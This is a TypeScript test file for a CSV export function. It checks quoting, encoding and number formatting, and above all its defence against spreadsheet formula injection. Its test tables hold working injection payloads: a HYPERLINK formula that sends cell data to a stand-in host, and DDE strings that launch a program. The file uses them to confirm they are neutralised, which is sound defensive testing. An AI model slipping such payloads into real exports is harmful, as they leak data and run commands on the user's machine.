import { Readable } from 'node:stream';
import { text } from 'node:stream/consumers';
import { parse } from 'csv-parse/sync';
import { describe, expect, test } from 'vitest';
import { type CsvCell, toCsv } from './csv.ts';

const fileOf = (...cells: CsvCell[]) => text(toCsv(cells, [{ header: 'cell', cell: (cell) => cell }]));
/** The cells as an independent parser reads them. */
const readBack = async (...cells: CsvCell[]): Promise<string[]> =>
  parse(await fileOf(...cells), { bom: true }).map(([cell = '']: string[]) => cell);

describe('toCsv', () => {
  test('writes a byte order mark, headings and lines that end in CRLF', async () => {
    const columns = [
      { header: 'id', cell: ({ id }: { id: string; votes: number }) => id },
      { header: 'votes', cell: ({ votes }: { votes: number }) => votes },
    ];
    expect(await text(toCsv([{ id: 'a', votes: 2 }], columns))).toBe('\uFEFFid,votes\r\na,2\r\n');
    expect(await text(toCsv([], columns))).toBe('\uFEFFid,votes\r\n');
  });

  test.each([
    'plain',
    'a "quoted" word',
    '"',
    'one, two',
    'one; two',
    'two\nlines',
    'two\r\nlines',
    'an old\rMac',
    ' spaces around ',
    'مرحبا بالعالم',
    '日本語 👩‍👩‍👧',
    'tab\tinside',
    '\uFEFFmark',
    '',
  ])('keeps %j', async (cell) => {
    expect(await readBack(cell, 'next')).toEqual(['cell', cell, 'next']);
  });

  test.each([
    '=1+1',
    '=HYPERLINK("https://evil.example?"&A1,"Prize")',
    "+cmd|' /C calc'!A0",
    '-1+1',
    "-2+3+cmd|' /C calc'!A0",
    '- milk',
    '@SUM(1)',
    '\0=1+1',
    '\t1',
    '\r1',
    '\n1',
    '＝1+1',
    '+47 22 33 44 55',
  ])('puts an apostrophe before %j', async (cell) => {
    expect(await readBack(cell)).toEqual(['cell', `'${cell}`]);
  });

  // Excel does so where the decimal separator is a comma. A quote inside a line then means nothing.
  test.each([
    'a;=1+1',
    'a;"=1+1',
    "a\n=cmd|' /C calc'!A0\n",
    'a\r+1+1',
    'a\t@SUM(1)',
    'a;\0=1+1',
    'a;＝1+1',
  ])('has no formula in %j where a spreadsheet splits at semicolons', async (cell) => {
    const file = await text(
      toCsv(
        [cell],
        ['id', 'text'].map((header) => ({ header, cell: () => (header === 'id' ? 1 : cell) })),
      ),
    );
    for (const delimiter of [';', '\t']) {
      const options = { bom: true, delimiter, quote: false, relax_column_count: true, record_delimiter: ['\n', '\r'] };
      const cells = parse(file, options).flat();
      expect(cells.filter((given: string) => /^[\0"]*[=+\-@＝]/.test(given))).toEqual([]);
      expect(cells.join('')).toContain("'");
    }
  });

  test('leaves what only looks like a formula', async () => {
    expect(await readBack('a; b = c', 'one-two; e@mail', 'a;b\nc')).toEqual([
      'cell',
      'a; b = c',
      'one-two; e@mail',
      'a;b\nc',
    ]);
  });

  test('keeps numbers, amounts and dates', async () => {
    const time = new Date('2026-11-27T18:05:09.700Z');
    expect(await readBack(-12, 0.5, '-12.50', '+5', '19.00', 10n, true, time, '2026-11-27')).toEqual([
      'cell',
      '-12',
      '0.5',
      '-12.50',
      '+5',
      '19.00',
      '10',
      'true',
      '2026-11-27 18:05:09',
      '2026-11-27',
    ]);
  });

  test('reads rows as they are taken, and stops with the reader', async () => {
    let read = 0;
    async function* rows() {
      try {
        for (;;) {
          read += 1;
          yield read;
        }
      } finally {
        read = -1;
      }
    }
    for await (const chunk of toCsv(rows(), [{ header: 'n', cell: (n) => n }])) {
      expect(chunk.length).toBeLessThan(20_000);
      break;
    }
    expect(read).toBe(-1);
  });

  test('passes an error of the rows on', async () => {
    const rows = Readable.from(['a', 'b']).map((row) => {
      if (row === 'b') throw new Error('lost');
      return row;
    });
    await expect(text(toCsv<string>(rows, [{ header: 'a', cell: (row) => row }]))).rejects.toThrow('lost');
  });
});
